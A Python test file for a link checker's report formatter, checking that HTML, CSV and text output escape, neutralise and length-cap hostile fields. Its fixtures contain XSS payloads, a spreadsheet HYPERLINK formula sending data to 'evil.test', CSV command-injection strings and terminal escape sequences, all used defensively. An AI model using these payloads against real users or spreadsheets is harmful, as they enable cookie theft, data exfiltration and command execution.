from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest

from workloads.linkcheck import report

ITEMS: list[dict[str, Any]] = [
    {
        "url": "http://s/",
        "result": "ok",
        "status": 200,
        "final_url": "http://s/",
        "redirects": [],
        "error": None,
        "referrers": [],
        "depth": 0,
    },
    {
        "url": "http://s/a",
        "result": "broken",
        "status": 404,
        "final_url": "http://s/a",
        "redirects": [],
        "error": "HTTP 404",
        "referrers": ["http://s/", "http://s/b"],
        "depth": 1,
    },
    {
        "url": "http://s/b",
        "result": "ok",
        "status": 200,
        "final_url": "http://s/b",
        "redirects": [],
        "error": None,
        "referrers": ["http://s/"],
        "depth": 1,
    },
    {
        "url": "http://x.invalid/",
        "result": "error",
        "status": None,
        "final_url": None,
        "redirects": [],
        "error": "name does not resolve",
        "referrers": ["http://s/b"],
        "depth": 2,
    },
    {
        "url": "http://s/p",
        "result": "excluded",
        "status": None,
        "final_url": None,
        "redirects": [],
        "error": "disallowed by robots.txt",
        "referrers": ["http://s/"],
        "depth": 1,
    },
    {
        "url": "http://s/<script>",
        "result": "broken",
        "status": 500,
        "final_url": "http://s/%3Cscript%3E",
        "redirects": ["http://s/%3Cscript%3E"],
        "error": "HTTP 500",
        "referrers": ["http://s/"],
        "depth": 1,
    },
]


def test_text_groups_problems_by_page():
    text = report.to_text(ITEMS)
    assert text.splitlines()[0] == "Checked 6 URLs: 2 ok, 2 broken, 1 error, 1 excluded"
    assert report.problems_by_page(ITEMS) == {
        "http://s/": [ITEMS[5], ITEMS[1]],
        "http://s/b": [ITEMS[1], ITEMS[3]],
    }
    assert "  error    -    http://x.invalid/  (name does not resolve)" in text
    assert "http://s/p" not in text


def test_json_lines_and_csv_have_one_row_per_url():
    lines = [json.loads(line) for line in report.to_json_lines(ITEMS).splitlines()]
    assert [line["url"] for line in lines] == [i["url"] for i in ITEMS]
    assert set(lines[0]) >= {"url", "result", "status", "final_url", "referrers", "error"}
    rows = list(csv.DictReader(io.StringIO(report.to_csv(ITEMS))))
    assert [r["result"] for r in rows] == [i["result"] for i in ITEMS]
    assert rows[1]["referrers"] == "http://s/ http://s/b"


def test_html_escapes_hostile_urls():
    page = report.to_html(ITEMS)
    assert "<script>" not in page
    assert "http://s/&lt;script&gt;" in page
    assert report.has_problems(ITEMS) and not report.has_problems(ITEMS[:1])
    with pytest.raises(ValueError, match="unknown format"):
        report.render(ITEMS, "pdf")


HOSTILE: list[dict[str, Any]] = [
    {
        "url": "javascript:alert(document.cookie)",
        "result": "broken",
        "status": 404,
        "final_url": None,
        "redirects": [],
        "error": "<img src=x onerror=alert(1)>",
        "referrers": ["data:text/html,<script>alert(2)</script>"],
        "depth": 1,
    },
    {
        "url": "http://s/ok",
        "result": "error",
        "status": None,
        "final_url": None,
        "redirects": [],
        "error": '=HYPERLINK("http://evil.test/?"&A1,"click")',
        "referrers": ["JaVaScRiPt:alert(3)"],
        "depth": 1,
    },
    {
        "url": "http://s/t",
        "result": "timeout",
        "status": None,
        "final_url": "http://s/\x1b]0;owned\x07",
        "redirects": [],
        "error": "\x1b[2J\x1b[31mall clear\r\n",
        "referrers": ["http://s/"],
        "depth": 1,
    },
    {
        "url": "http://s/long",
        "result": "error",
        "status": None,
        "final_url": None,
        "redirects": [],
        "error": "x" * 1_000_000,
        "referrers": ["http://s/"],
        "depth": 1,
    },
]


def test_html_makes_only_http_urls_live_links():
    page = report.to_html(HOSTILE)
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and all(href.startswith(("http://", "https://")) for href in hrefs)
    assert "javascript:alert(document.cookie)" in page  # shown, as text
    assert "<img" not in page and "<script>" not in page
    assert "Content-Security-Policy" in page
    assert len(page) < 3 * report.MAX_FIELD  # the million-character error is capped


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(start: str):
    item = {**HOSTILE[1], "error": start + "cmd|' /C calc'!A0", "referrers": [start + "1+1"]}
    (row,) = list(csv.DictReader(io.StringIO(report.to_csv([item]), newline="")))
    assert row["error"] == "'" + start + "cmd|' /C calc'!A0"
    assert row["referrers"] == "'" + start + "1+1"
    assert row["url"] == "http://s/ok"  # ordinary cells stay as they were


def test_csv_and_text_cap_every_field_and_text_shows_no_terminal_escapes():
    rows = list(csv.DictReader(io.StringIO(report.to_csv(HOSTILE), newline="")))
    assert all(len(value) <= report.MAX_FIELD + 1 for row in rows for value in row.values())
    text = report.to_text(HOSTILE)
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    assert "all clear" in text
    assert max(len(line) for line in text.splitlines()) < 2 * report.MAX_FIELD


def test_how_sure_a_result_is_shows_where_other_peers_checked_it():
    down_here = {  # reached from two networks of three: ok, and shown
        **ITEMS[2],
        "verdict": "region-dependent",
        "answers": ["timeout from 10.1.0.0/16", "ok from 10.2.0.0/16", "ok from 10.3.0.0/16"],
    }
    confirmed = {**ITEMS[1], "verdict": "confirmed", "answers": ["broken from 10.1.0.0/16", "broken from 10.2.0.0/16"]}
    text = report.to_text([confirmed, down_here])
    assert "[confirmed by 2 peers]" in text
    assert "[region-dependent: timeout from 10.1.0.0/16; ok from 10.2.0.0/16; ok from 10.3.0.0/16]" in text
    assert "region-dependent: timeout from 10.1.0.0/16" in report.problems_table([down_here])
    assert "ok       200  http://s/b" in text
    (row,) = csv.DictReader(io.StringIO(report.to_csv([down_here])))
    assert row["verdict"] == "region-dependent" and row["answers"].count(" from ") == 3
    (line,) = report.to_json_lines([confirmed]).splitlines()
    assert json.loads(line)["answers"] == confirmed["answers"]
    # One answer was enough: nothing more to say.
    assert "[" not in report.to_text([ITEMS[1]]).splitlines()[-1]
